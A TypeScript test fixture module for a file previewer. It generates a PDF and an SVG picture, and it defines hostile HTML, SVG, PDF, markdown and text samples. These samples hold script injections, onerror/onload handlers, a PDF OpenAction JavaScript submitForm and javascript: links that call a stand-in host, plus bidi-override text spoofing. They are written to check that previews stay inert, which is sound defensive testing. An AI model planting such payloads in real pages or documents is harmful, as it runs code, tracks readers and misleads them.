// Files to look at: a PDF that is made here, a picture, and those that would do harm if they could.
import type { PreviewView } from '../bindings';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

/** A PDF of so many pages. `more` goes into its catalogue: what opens by itself, for a test that nothing does. */
export function pdfOf(lines: readonly string[], pages: number, more = ''): Uint8Array {
  const escaped = (line: string) => line.replace(/[\\()]/g, '\\$&');
  const body = (page: number) =>
    `BT /F1 22 Tf 72 740 Td (${escaped(lines[0] ?? '')}, page ${page}) Tj ET ${lines.slice(1).map((line, at) => `BT /F1 12 Tf 72 ${700 - at * 22} Td (${escaped(line)}) Tj ET`).join(' ')}`;
  const kids = Array.from({ length: pages }, (_, at) => `${4 + at * 2} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from({ length: pages }, (_, at) => {
      const content = body(at + 1);
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + at * 2} 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 720] /A << /S /URI /URI (https://203.0.113.9/link) >> >>] >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ];
    }).flat(),
  ];
  let text = '%PDF-1.4\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return bytes(text);
}

export function picture(): Uint8Array {
  return bytes(
    '<svg xmlns="http://www.w3.org/2000/svg" width="640" height="420"><defs><linearGradient id="sky" x2="0" y2="1"><stop stop-color="#b9c7ff"/><stop offset="1" stop-color="#fff4df"/></linearGradient></defs>' +
      '<rect width="640" height="420" fill="url(#sky)"/><path d="M0 330 L180 170 L300 290 L420 130 L640 340 V420 H0Z" fill="#44567a"/><circle cx="520" cy="90" r="38" fill="#e3b04f"/></svg>',
  );
}

const PWN = 'window.top.pwned=1;fetch("https://203.0.113.9/pwned")';

/** Each would run, call home or lead away if it were opened as what it is. */
export const HOSTILE: Record<string, PreviewView | { type: string; bytes: Uint8Array }> = {
  'hostile.html': {
    kind: 'text', encoding: 'UTF-8', guessed: false, form: 'page', read: 140,
    text: `<!doctype html><meta http-equiv="refresh" content="0;url=https://203.0.113.9/away"><script>${PWN}</script><img src=x onerror='${PWN}'>`,
  },
  'hostile.svg': {
    type: 'image/svg+xml',
    bytes: bytes(
      `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="120" onload='${PWN}'><script>${PWN}</script><image href="https://203.0.113.9/pwned.png" width="10" height="10"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://203.0.113.9/pwned"/></foreignObject><text x="20" y="60">a drawing that wanted more</text></svg>`,
    ),
  },
  'hostile.pdf': {
    type: 'application/pdf',
    bytes: pdfOf(['A PDF that wanted more'], 1, '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://203.0.113.9/pwned"\\)) >> /AA << /WC << /S /URI /URI (https://203.0.113.9/pwned) >> >>'),
  },
  'hostile.md': {
    kind: 'text', encoding: 'UTF-8', guessed: false, form: 'markdown', read: 300,
    text: `# Harmless\n\n<script>${PWN}</script>\n\n<img src="https://203.0.113.9/pwned.png" onerror='${PWN}'>\n\n[click me](javascript:${PWN.replace(/[()]/g, '')}) and [here](https://203.0.113.9/link)\n\n![tracking](https://203.0.113.9/pwned.png)\n\n<iframe src="https://203.0.113.9/pwned"></iframe>\n`,
  },
  'hostile.txt': {
    kind: 'text', encoding: 'windows-1252', guessed: true, form: 'plain', read: 60,
    text: 'Pay to \u202e0004-7119\u202c today\u0000\u0007 and \u2066not\u2069 tomorrow\n',
  },
};
